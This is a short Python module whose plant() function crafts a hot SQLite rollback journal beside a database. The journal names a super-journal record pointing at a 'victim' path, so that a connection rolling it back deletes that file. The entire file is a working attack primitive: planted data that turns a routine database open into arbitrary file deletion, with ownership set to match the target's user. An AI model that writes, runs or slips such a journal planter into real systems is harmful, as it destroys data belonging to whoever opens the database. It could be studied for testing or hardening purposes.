"""Hot rollback journals of SQLite: what a program leaves that ended while it wrote, or planted."""

import os
import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")


def plant(database: Path, victim: Path, owner: int = -1) -> Path:
    """A journal beside a database that names a super-journal: a connection that rolls it back
    removes `victim`, which must not be empty (SQLite file format, "The Rollback Journal")."""
    head = database.read_bytes()[:18]
    size = struct.unpack(">H", head[16:18])[0] if len(head) == 18 else 4096
    size = 65536 if size == 1 else size
    header = _MAGIC + struct.pack(">5I", 0, 1234, database.stat().st_size // size, 512, size)
    name = os.fsencode(victim)
    record = struct.pack(">I", 0x40000000 // size + 1) + name
    record += struct.pack(">2I", len(name), sum(name)) + _MAGIC
    journal = database.with_name(f"{database.name}-journal")
    journal.write_bytes(header.ljust(512, b"\0") + record)
    os.chown(journal, owner, owner)
    return journal
